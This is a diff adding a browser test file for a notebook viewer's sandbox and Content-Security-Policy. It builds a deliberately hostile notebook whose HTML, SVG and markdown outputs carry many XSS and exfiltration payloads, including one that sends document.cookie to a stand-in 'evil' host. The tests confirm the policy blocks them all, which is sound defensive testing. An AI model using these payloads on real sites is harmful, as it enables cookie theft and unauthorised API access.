@@ -1,0 +1,364 @@
+"""A version that tries everything, shown in a real browser by real notebook servers."""
+
+import hashlib
+import io
+import json
+import os
+import shutil
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, Route, sync_playwright
+
+from bookstore_core.settings import BookstoreSettings
+from bookstore_core.stores import VersionMetadata, new_save_id, open_store, utc_now
+from bookstore_web.rendering import FRAME_POLICY, FRAME_SANDBOX
+from harness.config_files import extension_lines, settings_lines
+from harness.notebook_server import GENERATIONS, TOKEN, NotebookServer, notebook
+
+CHROMIUM = shutil.which("chromium")
+SCREENSHOTS = Path(os.environ.get("SCREENSHOTS", "screenshots"))
+
+pytestmark = [
+    pytest.mark.server,
+    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed"),
+]
+
+
+class Listener:
+    """What a notebook tries to reach: it counts connections and keeps what was asked.
+
+    It is at another host than the notebook server, in a browser's eyes.
+    """
+
+    def __init__(self) -> None:
+        self._socket = socket.create_server(("127.0.0.1", 0))
+        self.port = self._socket.getsockname()[1]
+        self.url = f"http://localhost:{self.port}"
+        self.asked: list[str] = []
+        self._counting = threading.Lock()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                client, _ = self._socket.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._answer, args=(client,), daemon=True).start()
+
+    def _answer(self, client: socket.socket) -> None:
+        with client:
+            client.settimeout(5)
+            with self._counting:
+                place = len(self.asked)
+                self.asked.append("connected")
+            try:
+                self.asked[place] = client.recv(65536).decode("latin-1")
+                body = b"<title>outside</title>"
+                head = f"Content-Type: text/html\r\nContent-Length: {len(body)}"
+                client.sendall(
+                    b"HTTP/1.1 200 OK\r\nConnection: close\r\n"
+                    + head.encode()
+                    + b"\r\n\r\n"
+                    + body
+                )
+            except OSError:
+                pass  # a connection made ahead, and nothing asked
+
+    def stop(self) -> None:
+        self._socket.shutdown(socket.SHUT_RDWR)
+        self._socket.close()
+        self._thread.join()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    listening = Listener()
+    yield listening
+    listening.stop()
+
+
+@pytest.fixture(scope="module", params=GENERATIONS)
+def server(
+    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[NotebookServer]:
+    home = tmp_path_factory.mktemp("hostile")
+    config = extension_lines("bookstore_web") + settings_lines(
+        storage="local", local_root=str(home / "store"), spool_dir=str(home / "spool")
+    )
+    with NotebookServer(
+        request.param, home, config=config, base_url="/user/ann/"
+    ) as running:
+        assert running.request("GET", "api/bookstore").ok  # gunicorn has started
+        yield running
+
+
+@pytest.fixture
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(
+            executable_path=CHROMIUM,
+            args=[
+                "--no-sandbox",
+                "--disable-gpu",
+                "--no-first-run",
+                # It would stop requests to this machine for a reason of its own.
+                "--disable-features=LocalNetworkAccessChecks",
+            ],
+        )
+        yield chromium
+        chromium.close()
+
+
+@pytest.fixture
+def context(browser: Browser, server: NotebookServer) -> BrowserContext:
+    """A browser that is logged in at the notebook server."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(f"{server.url}/api/status?token={TOKEN}")
+    page.close()
+    assert context.cookies(), "the server has set no cookie"
+    return context
+
+
+#: Each runs by itself, or reaches out, where nothing holds it.
+SCRIPT = (
+    "try {{ new Image().src = '{evil}/script-{name}?' + document.cookie }}"
+    " catch (e) {{}}"
+    "; fetch('{server}/api/contents').catch(() => 0)"
+    "; fetch('{evil}/fetch-{name}').catch(() => 0)"
+    "; try {{ parent.document.title = 'owned' }} catch (e) {{}}"
+    "; document.title = 'owned'"
+)
+ELEMENTS = """
+<script>{script}</script>
+<img src="data:image/png;base64,xx" onerror="{script}">
+<svg xmlns="http://www.w3.org/2000/svg" onload="{script}">
+  <a xlink:href="javascript:{script}"><text>x</text></a>
+  <image href="{evil}/svg-image-{name}"></image>
+  <style>@import url({evil}/svg-import-{name});</style>
+  <foreignObject><body onload="{script}"></body></foreignObject>
+</svg>
+<meta http-equiv="refresh" content="0;url={evil}/meta-{name}">
+<base href="{evil}/base-{name}/">
+<img src="relative-{name}.png"> <img src="{evil}/img-{name}">
+<img srcset="{evil}/srcset-{name} 1x"> <input type="image" src="{evil}/input-{name}">
+<link rel="stylesheet" href="{evil}/link-{name}">
+<link rel="preconnect" href="{evil}"> <link rel="dns-prefetch" href="{evil}">
+<link rel="prefetch" href="{evil}/prefetch-{name}">
+<link rel="prerender" href="{evil}/prerender-{name}">
+<link rel="modulepreload" href="{evil}/module-{name}">
+<iframe src="{evil}/iframe-{name}"></iframe>
+<iframe srcdoc="<script>{script}</script><img src='{evil}/srcdoc-{name}'>"></iframe>
+<iframe src="{server}/api/contents"></iframe>
+<object data="{evil}/object-{name}"></object> <embed src="{evil}/embed-{name}">
+<video src="{evil}/video-{name}" poster="{evil}/poster-{name}" autoplay></video>
+<audio src="{evil}/audio-{name}" autoplay></audio>
+<style>@import url({evil}/import-{name});
+@font-face {{ font-family: leak; src: url({evil}/font-{name}); }}
+body {{ background: url({evil}/css-{name}); font-family: leak; }}
+input[value^="a"] {{ background: url({evil}/value-{name}); }}</style>
+<input value="abc" style="background: url({evil}/style-{name})">
+<body background="{evil}/background-{name}">
+<table background="{evil}/table-{name}"><tr><td>x</td></tr></table>
+<form id="form-{name}" action="{server}/api/contents" method="post">
+<input name="a"><button class="send" autofocus onfocus="{script}">Send</button></form>
+<form action="{evil}/form-{name}"><button class="send">Send</button></form>
+<details open ontoggle="{script}"><summary>x</summary></details>
+<noscript><img src="{evil}/noscript-{name}"></noscript>
+<a class="js" href="javascript:{script}">javascript</a>
+<a class="data" href="data:text/html,<script>{script}</script>">data</a>
+<a ping="{evil}/ping-{name}" class="ping" href="#nowhere">ping</a>
+"""
+
+
+def hostile(server: NotebookServer, evil: str) -> dict[str, Any]:
+    """Return a notebook that tries everything in each place where HTML may stand."""
+
+    def elements(name: str) -> str:
+        known = {"evil": evil, "server": server.url, "name": name}
+        script = SCRIPT.format(**known).replace('"', "&quot;")
+        return ELEMENTS.format(script=script, **known)
+
+    content = notebook("# <script>alert(1)</script>", "plot()")
+    html = {"text/html": elements("html")}
+    svg = (
+        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{SCRIPT}\">{ELEMENTS}</svg>"
+    )
+    known = {"evil": evil, "server": server.url, "name": "svg", "script": "0"}
+    outputs = [
+        html,
+        {"image/svg+xml": svg.format(**known)},
+        {"text/markdown": elements("markdown-output")},
+        {"application/javascript": SCRIPT.format(**known)},
+        {"image/png": f'"><img src="{evil}/png">'},
+        {"text/latex": f"<img src={evil}/latex>"},
+    ]
+    content["cells"][1]["outputs"] = [
+        {"output_type": "display_data", "data": data, "metadata": {}}
+        for data in outputs
+    ]
+    for number, source in enumerate(
+        [
+            elements("markdown"),
+            f"![x]({evil}/markdown-image) [js](javascript:alert(1))",
+            "# The last heading",
+        ]
+    ):
+        content["cells"].append(
+            {
+                "cell_type": "markdown",
+                "id": f"text-{number}",
+                "metadata": {},
+                "source": source,
+            }
+        )
+    return content
+
+
+def store_version(server: NotebookServer, path: str, content: dict[str, Any]) -> str:
+    settings = BookstoreSettings(storage="local", local_root=str(server.home / "store"))
+    data = json.dumps(content).encode()
+    metadata = VersionMetadata(
+        save_id=new_save_id(),
+        saved_at=utc_now(),
+        sha256=hashlib.sha256(data).hexdigest(),
+    )
+    version = open_store(settings).put(
+        f"workspace/{path}", io.BytesIO(data), size=len(data), metadata=metadata
+    )
+    return version.version_id
+
+
+def content_url(server: NotebookServer, path: str, version_id: str) -> str:
+    query = f"path={quote(path)}&version_id={quote(version_id)}"
+    return f"{server.url}/bookstore/view/content?{query}"
+
+
+def watch(context: BrowserContext) -> list[str]:
+    """Keep what answers any page of the browser, and what dialogs they open.
+
+    Of requests it would tell those too that the policy stops in the browser.
+    """
+    seen: list[str] = []
+    context.on("response", lambda response: seen.append(response.url))
+    context.on("dialog", lambda dialog: seen.append(f"dialog {dialog.message}"))
+    return seen
+
+
+def embed(page: Page, server: NotebookServer, url: str) -> str:
+    """Show a page of the server's own origin with the frame as our pages have it."""
+    address = f"{server.url}/bookstore/embedding"
+    frame = f'<iframe src="{url}" sandbox="{FRAME_SANDBOX}" width=900 height=700>'
+    page.route(
+        address,
+        lambda route: route.fulfill(
+            body=f"<title>calm</title>{frame}</iframe>", content_type="text/html"
+        ),
+    )
+    page.goto(address)
+    return address
+
+
+@pytest.mark.parametrize("place", ["frame", "tab"])
+def test_nothing_of_a_hostile_version_runs_or_reaches_out(
+    server: NotebookServer, context: BrowserContext, listener: Listener, place: str
+) -> None:
+    path = f"hostile {place}.ipynb"
+    version = store_version(server, path, hostile(server, listener.url))
+    url = content_url(server, path, version)
+    page = context.new_page()
+    seen = watch(context)
+    if place == "frame":
+        expected = [embed(page, server, url), url]
+    else:
+        page.goto(url)
+        expected = [url]
+    shown = page.frame_locator("iframe") if place == "frame" else page.locator("html")
+    shown.get_by_role("heading", name="The last heading").wait_for()
+    document = next(frame for frame in page.frames if frame.url == url)
+    page.wait_for_timeout(1500)  # for what comes late: there is nothing to wait for
+    assert document.evaluate("window.origin") == "null"
+    assert document.evaluate(READ_COOKIE) == "refused"
+    for link in (".js", ".data", ".send"):
+        for element in document.query_selector_all(link):
+            element.dispatch_event("click")
+            element.click(force=True, timeout=5000, no_wait_after=True)
+    page.wait_for_timeout(500)
+    asked = [url for url in seen if not url.startswith(("data:", "about:"))]
+    assert asked == expected
+    assert listener.asked == []
+    assert page.title() == ("calm" if place == "frame" else path)
+    SCREENSHOTS.mkdir(exist_ok=True)
+    page.screenshot(path=SCREENSHOTS / f"hostile-{place}-{server.generation}.png")
+
+
+READ_COOKIE = """() => {
+  try { return document.cookie } catch (error) { return 'refused' }
+}"""
+
+
+def test_without_its_policy_the_same_document_does_it_all(
+    server: NotebookServer, context: BrowserContext, listener: Listener
+) -> None:
+    # Lest the test above sees nothing because there is nothing to be seen.
+    version = store_version(server, "free.ipynb", hostile(server, listener.url))
+    url = content_url(server, "free.ipynb", version)
+    page = context.new_page()
+
+    def strip(route: Route) -> None:
+        answer = route.fetch()
+        route.fulfill(body=answer.body(), content_type="text/html")
+
+    page.route(url, strip)
+    seen = watch(context)
+    page.goto(url, wait_until="commit")
+    page.wait_for_function("document.title == 'owned'")
+    page.wait_for_timeout(1500)
+    assert f"{server.url}/api/contents" in seen
+    reached = " ".join(listener.asked)
+    for what in ("script", "fetch", "img", "css", "import", "font", "style", "video"):
+        assert f"/{what}-html" in reached
+        assert f"/{what}-markdown" in reached
+
+
+def test_a_link_opens_in_a_tab_that_knows_nothing_of_us(
+    server: NotebookServer, context: BrowserContext, listener: Listener
+) -> None:
+    content = notebook()
+    source = f"[out]({listener.url}/clicked)\n\n[down](#Below)\n\n# Below"
+    content["cells"] = [
+        {"cell_type": "markdown", "id": "a", "metadata": {}, "source": source}
+    ]
+    url = content_url(server, "l.ipynb", store_version(server, "l.ipynb", content))
+    page = context.new_page()
+    embed(page, server, url)
+    frame = page.frame_locator("iframe")
+    frame.get_by_role("link", name="down").click()
+    assert len(context.pages) == 1
+    with context.expect_page() as opened:
+        frame.get_by_role("link", name="out").click()
+    opened.value.wait_for_load_state()
+    assert opened.value.title() == "outside"
+    assert opened.value.evaluate("window.opener") is None
+    asked = next(text for text in listener.asked if "/clicked" in text)
+    assert "Referer" not in asked
+    assert "Cookie" not in asked
+
+
+def test_the_policy_arrives_through_the_notebook_server(server: NotebookServer) -> None:
+    version = store_version(server, "p.ipynb", notebook("1"))
+    answer = server.request(
+        "GET", content_url(server, "p.ipynb", version)[len(server.url) :]
+    )
+    assert answer.status_code == 200
+    assert answer.raw.headers.getlist("Content-Security-Policy") == [FRAME_POLICY]
+    assert answer.headers["X-Content-Type-Options"] == "nosniff"
+    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
